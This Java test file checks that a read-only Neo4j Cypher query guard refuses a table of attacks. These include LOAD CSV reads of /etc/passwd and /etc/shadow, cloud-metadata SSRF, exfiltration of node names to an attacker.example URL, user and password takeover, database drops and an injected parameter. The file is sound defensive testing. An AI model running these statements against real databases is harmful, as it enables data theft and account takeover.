package io.riskgraph.cypher;

import io.riskgraph.query.QueryLimits;
import io.riskgraph.query.QueryRefusedException;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.neo4j.driver.Session;
import org.neo4j.driver.SessionConfig;
import org.neo4j.driver.Transaction;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The analyst guard against attacks from OWASP's injection, SSRF and access-control guidance and Neo4j's own
 * security notes (administration commands, transaction commands, USE, LOAD CSV exfiltration, procedures, plugins):
 * every row is refused with a clear message, the store is the same after the whole table, and a transaction another
 * user holds open the whole time is still alive at the end (TERMINATE did not reach it).
 */
class CypherGuardTest {
    static ReadOnlyQueryRunner runner;
    static Session otherUser;
    static Transaction otherUsersTransaction;
    static List<Object> before;

    @BeforeAll
    static void graph() {
        TestNeo4j.clear();
        try (Session s = TestNeo4j.connection().driver().session()) {
            s.run("UNWIND range(1, 20) AS i CREATE (:Enterprise {uscc: 'U' + i, name: 'E' + i})").consume();
            s.run("MATCH (a:Enterprise {uscc: 'U1'}), (b:Enterprise {uscc: 'U2'}) CREATE (a)-[:INVESTS_IN {share: 0.5}]->(b)")
                    .consume();
        }
        runner = new ReadOnlyQueryRunner(TestNeo4j.connection().driver());
        before = fingerprint();
        otherUser = TestNeo4j.connection().driver().session();
        otherUsersTransaction = otherUser.beginTransaction();
        otherUsersTransaction.run("MATCH (e:Enterprise) RETURN count(e)").consume();
    }

    @AfterAll
    static void storeUnchangedAndOtherUserUntouched() {
        otherUsersTransaction.run("MATCH (e:Enterprise) RETURN count(e)").consume();
        otherUsersTransaction.commit();
        otherUser.close();
        assertThat(fingerprint()).isEqualTo(before);
    }

    /** Everything an attack could change: the graph, the schema, the databases, the users, the settings. */
    static List<Object> fingerprint() {
        List<Object> f = new ArrayList<>();
        var driver = TestNeo4j.connection().driver();
        try (Session s = driver.session()) {
            f.add(s.run("MATCH (n) RETURN count(n) AS c").single().get("c").asLong());
            f.add(s.run("MATCH ()-[r]->() RETURN count(r) AS c").single().get("c").asLong());
            f.add(s.run("MATCH (n) RETURN collect(DISTINCT [labels(n), properties(n)]) AS c").single().get("c").asObject());
            f.add(s.run("CALL db.labels() YIELD label RETURN collect(label) AS c").single().get("c").asObject());
            f.add(s.run("SHOW INDEXES YIELD name RETURN collect(name) AS c").single().get("c").asObject());
            f.add(s.run("SHOW CONSTRAINTS YIELD name RETURN collect(name) AS c").single().get("c").asObject());
            f.add(s.run("SHOW SETTINGS YIELD name, value WHERE name STARTS WITH 'db.logs' RETURN collect([name, value]) AS c")
                    .single().get("c").asObject());
        }
        try (Session s = driver.session(SessionConfig.forDatabase("system"))) {
            f.add(s.run("SHOW DATABASES YIELD name, currentStatus RETURN collect([name, currentStatus]) AS c")
                    .single().get("c").asObject());
            f.add(s.run("SHOW USERS YIELD user RETURN collect(user) AS c").single().get("c").asObject());
        }
        return f;
    }

    /** One attack a line: the statement (a literal \\n is a line break), "=>", what the refusal must say. */
    static final String ATTACKS = """
            // transaction commands: see and kill other users' work (issue 16)
            SHOW TRANSACTIONS => administration commands are not allowed here (SHOW TRANSACTIONS)
            SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery => (SHOW TRANSACTIONS)
            TERMINATE TRANSACTIONS 'neo4j-transaction-80' => (TERMINATE TRANSACTIONS)
            SHOW TRANSACTIONS YIELD transactionId AS t WHERE t <> '' TERMINATE TRANSACTIONS t => (SHOW TRANSACTIONS)
            show transactions => (SHOW TRANSACTIONS)
            SHOW/* a comment */TRANSACTIONS => (SHOW TRANSACTIONS)
            /* hidden */ // first line\\nTERMINATE TRANSACTIONS 'neo4j-transaction-1' => (TERMINATE TRANSACTIONS)
            CYPHER runtime=slotted SHOW TRANSACTIONS => (SHOW TRANSACTIONS)
            CYPHER 25 TERMINATE TRANSACTIONS 'neo4j-transaction-1' => (TERMINATE TRANSACTIONS)
            // server introspection: settings, directories, procedures, users
            SHOW SETTINGS => (SHOW SETTINGS)
            SHOW SETTINGS YIELD name, value WHERE name STARTS WITH 'server.directories' RETURN name, value => (SHOW SETTINGS)
            SHOW SETTING 'server.directories.data' => (SHOW SETTING)
            SHOW PROCEDURES => (SHOW PROCEDURES)
            SHOW FUNCTIONS => (SHOW FUNCTIONS)
            SHOW INDEXES => (SHOW INDEXES)
            SHOW CONSTRAINTS => (SHOW CONSTRAINTS)
            SHOW DATABASES => (SHOW DATABASES)
            SHOW USERS => (SHOW USERS)
            SHOW CURRENT USER => (SHOW CURRENT)
            SHOW ROLES => (SHOW ROLES)
            SHOW PRIVILEGES => (SHOW PRIVILEGES)
            SHOW SERVERS => (SHOW SERVERS)
            SHOW ALIASES FOR DATABASE => (SHOW ALIASES)
            // administration: users, roles, databases, schema
            CREATE USER evil SET PASSWORD 'evil-password' CHANGE NOT REQUIRED => (CREATE USER)
            CREATE OR REPLACE USER evil SET PASSWORD 'evil-password' => (CREATE OR REPLACE USER)
            ALTER USER neo4j SET PASSWORD 'taken-over' => (ALTER USER)
            ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b' => (ALTER CURRENT)
            RENAME USER neo4j TO evil => (RENAME USER)
            GRANT ROLE admin TO evil => (GRANT ROLE)
            DENY TRAVERSE ON GRAPH * NODES * TO PUBLIC => (DENY TRAVERSE)
            REVOKE ROLE admin FROM neo4j => (REVOKE ROLE)
            CREATE DATABASE evil => (CREATE DATABASE)
            CREATE COMPOSITE DATABASE evil => (CREATE COMPOSITE)
            CREATE ALIAS evil FOR DATABASE neo4j => (CREATE ALIAS)
            DROP DATABASE neo4j => (DROP DATABASE)
            STOP DATABASE neo4j => (STOP DATABASE)
            START DATABASE neo4j => (START DATABASE)
            ALTER DATABASE neo4j SET ACCESS READ ONLY => (ALTER DATABASE)
            ENABLE SERVER 'x' => (ENABLE SERVER)
            DROP INDEX enterprise_uscc IF EXISTS => (DROP INDEX)
            CREATE INDEX evil IF NOT EXISTS FOR (n:Enterprise) ON (n.name) => change the schema
            CREATE CONSTRAINT evil IF NOT EXISTS FOR (n:Enterprise) REQUIRE n.name IS UNIQUE => change the schema
            // other graphs
            USE system SHOW USERS => USE is not allowed here
            USE neo4j MATCH (n) RETURN count(n) => USE is not allowed here
            CALL { USE system MATCH (n) RETURN n } RETURN count(n) => USE is not allowed here
            MATCH (n) RETURN count(n) AS c UNION USE system MATCH (n) RETURN count(n) AS c => USE is not allowed here
            RETURN graph.names() AS g => function graph.names is not allowed here
            // batching and writes
            MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS => IN TRANSACTIONS is not allowed here
            UNWIND range(1, 3) AS i CALL (i) { RETURN i AS j } IN TRANSACTIONS OF 1 ROW RETURN j => IN TRANSACTIONS is not allowed here
            UNWIND range(1, 3) AS i CALL (i) { RETURN i AS j } IN 2 CONCURRENT TRANSACTIONS RETURN j => IN TRANSACTIONS is not allowed here
            CREATE (:Enterprise {uscc: 'X'}) => only reads are allowed
            MATCH (e:Enterprise {uscc: 'U1'}) SET e.name = 'hacked' => only reads are allowed
            MATCH (e:Enterprise) DETACH DELETE e => only reads are allowed
            MATCH (e:Enterprise) REMOVE e:Enterprise => only reads are allowed
            MERGE (e:Enterprise {uscc: 'U1'}) ON MATCH SET e.name = 'x' => only reads are allowed
            FOREACH (i IN range(1, 3) | CREATE (:Evil)) => only reads are allowed
            MATCH (e:Enterprise) WITH e LIMIT 1 CALL (e) { SET e.name = 'x' } RETURN 1 => only reads are allowed
            MATCH (n) RETURN n; MATCH (n) DETACH DELETE n => one statement at a time
            // files and the network (LOAD CSV exfiltration, SSRF)
            LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line => LOAD CSV is not allowed
            load csv with headers from 'http://169.254.169.254/latest/meta-data/' as l return l => LOAD CSV is not allowed
            MATCH (e:Enterprise) WITH e LIMIT 1 LOAD CSV FROM 'https://attacker.example/?' + e.name AS l RETURN l => LOAD CSV is not allowed
            CALL { LOAD CSV FROM 'file:///etc/shadow' AS l RETURN l } RETURN l => LOAD CSV is not allowed
            // procedures: configuration, security, plugins, our own, disguised
            CALL dbms.listConfig() => procedure calls are not allowed here (dbms.listConfig)
            CALL dbms.components() YIELD name RETURN name => (dbms.components)
            CALL dbms.listConnections() => (dbms.listConnections)
            CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF') => (dbms.setConfigValue)
            CALL dbms.security.createUser('evil', 'evil', false) => (dbms.security.createUser)
            CALL db.createLabel('Evil') => (db.createLabel)
            CALL db.clearQueryCaches() => (db.clearQueryCaches)
            CALL db.stats.retrieve('GRAPH COUNTS') => (db.stats.retrieve)
            CALL tx.setMetaData({app: 'x'}) => (tx.setMetaData)
            CALL riskgraph.projection.nodes([], []) => (riskgraph.projection.nodes)
            CALL `dbms`.`listConfig`() => (dbms.listConfig)
            CALL dbms.listConfig('db.labels(') => (dbms.listConfig)
            CALL db.labels() YIELD label CALL dbms.listConfig() YIELD name RETURN label, name => (dbms.listConfig)
            MATCH (e:Enterprise) CALL (e) { CALL db.createLabel('X') } RETURN e => (db.createLabel)
            CALL apoc.cypher.runWrite('MATCH (n) DETACH DELETE n', {}) => (apoc.cypher.runWrite)
            CALL apoc.load.json('http://169.254.169.254/') YIELD value RETURN value => (apoc.load.json)
            CALL apoc.systemdb.execute('SHOW USERS') => (apoc.systemdb.execute)
            RETURN apoc.util.sleep(100000) => function apoc.util.sleep is not allowed here
            // the runner plans every statement itself
            EXPLAIN MATCH (n) RETURN n => leave out EXPLAIN
            PROFILE MATCH (n) RETURN n => leave out PROFILE
            // malformed
            MATCH (n RETURN n => Invalid input
            MATCH (n) /* never closed RETURN n => comment is not closed
            <empty> => the statement is empty
            """;

    static Stream<Arguments> attacks() {
        return ATTACKS.lines().map(String::strip).filter(l -> !l.isEmpty() && !l.startsWith("//")).map(l -> {
            int at = l.lastIndexOf(" => ");
            return Arguments.of(l.substring(0, at).replace("\\n", "\n").replace("<empty>", ""), l.substring(at + 4));
        });
    }

    @Test
    void theTableHoldsAtLeastFortyAttacks() {
        assertThat(attacks().count()).isGreaterThanOrEqualTo(40);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("attacks")
    void attackIsRefused(String statement, String message) {
        assertThatThrownBy(() -> runner.run(statement, Map.of(), QueryLimits.DEFAULT))
                .isInstanceOf(QueryRefusedException.class).hasMessageContaining(message);
    }

    /**
     * Defence in depth: with the text check left out, every attack the server will plan is still refused by the plan
     * check, but two that read this graph only (commands the server will not plan cannot hide in a read either).
     */
    @Test
    void thePlanAloneRefusesEveryAttackTheServerPlans() {
        List<String> planned = new ArrayList<>();
        List<String> passed = new ArrayList<>();
        try (Session s = TestNeo4j.connection().driver().session(SessionConfig.builder()
                .withDefaultAccessMode(org.neo4j.driver.AccessMode.READ).build())) {
            for (Arguments a : attacks().toList()) {
                String statement = (String) a.get()[0];
                if (statement.isBlank()) continue;
                org.neo4j.driver.summary.ResultSummary plan;
                try {
                    plan = s.executeRead(t -> t.run("EXPLAIN " + statement).consume());
                } catch (org.neo4j.driver.exceptions.Neo4jException notPlanned) {
                    continue;
                }
                planned.add(statement);
                try {
                    ReadOnlyQueryRunner.refuseUnlessReadOnly(plan);
                    passed.add(statement + " [" + plan.queryType() + " " + operators(plan.plan()) + "]");
                } catch (QueryRefusedException expected) {
                    // refused
                }
            }
        }
        // refused by their words only, and harmless if they ran: a USE of this very graph, EXPLAIN twice
        assertThat(passed).containsExactlyInAnyOrder(
                "USE neo4j MATCH (n) RETURN count(n) [READ_ONLY ProduceResults@neo4j[NodeCountFromCountStore@neo4j[]]]",
                "EXPLAIN MATCH (n) RETURN n [READ_ONLY ProduceResults@neo4j[AllNodesScan@neo4j[]]]");
        assertThat(planned).hasSizeGreaterThanOrEqualTo(20);
    }

    private static String operators(org.neo4j.driver.summary.Plan p) {
        return p.operatorType() + p.children().stream().map(CypherGuardTest::operators).toList();
    }

    /** What the guard must let through: reads that merely look like commands in strings, names, keys and comments. */
    @ParameterizedTest(name = "[{index}] {0}")
    @CsvSource(delimiterString = "=>", quoteCharacter = '"', value = {
            "MATCH (e:Enterprise) RETURN count(e) AS c => 20",
            "RETURN 'SHOW TRANSACTIONS; TERMINATE TRANSACTIONS' AS c => SHOW TRANSACTIONS; TERMINATE TRANSACTIONS",
            "\"// SHOW SETTINGS\nRETURN 1 AS c\" => 1",
            "RETURN {use: 1, show: 2}.show AS c => 2",
            "WITH ['a', 'b'] AS transactions CALL () { RETURN 1 AS one } RETURN [t IN transactions | t] AS c => [a, b]",
            "MATCH (`SHOW`:Enterprise {uscc: 'U1'}) RETURN `SHOW`.name AS c => E1",
            "CALL db.labels() YIELD label WITH label WHERE label = 'Enterprise' RETURN label AS c => Enterprise",
            "CALL () { MATCH (e:Enterprise) RETURN e } RETURN count(e) AS c => 20",
            "MATCH (e:Enterprise {uscc: 'U1'}) RETURN COUNT { (e)-->() } AS c => 1",
            "RETURN date.truncate('month', date('2026-03-15')) = date('2026-03-01') AS c => true",
            "CYPHER 25 MATCH (e:Enterprise {uscc: 'U2'}) RETURN e.name AS c => E2",
            "MATCH (e:Enterprise {uscc: $injected}) RETURN count(e) AS c => 0",
    })
    void readIsAllowed(String statement, String expected) {
        var r = runner.run(statement, Map.of("injected", "U1'}) DETACH DELETE e //"), QueryLimits.DEFAULT);
        assertThat(String.valueOf(r.rows().getFirst().getFirst())).isEqualTo(expected);
    }

    @Test
    void everyAttackIsAlsoRefusedByTheTextAlone() {
        // the plan check is the second line; the first must not rely on it for commands
        for (String s : List.of("SHOW TRANSACTIONS", "TERMINATE TRANSACTIONS 'x'", "USE system MATCH (n) RETURN n",
                "LOAD CSV FROM 'file:///x' AS l RETURN l", "CALL dbms.listConfig()",
                "UNWIND [1] AS i CALL (i) { RETURN i AS j } IN TRANSACTIONS RETURN j")) {
            assertThatThrownBy(() -> CypherGuard.checkText(s)).as(s).isInstanceOf(QueryRefusedException.class);
        }
    }
}
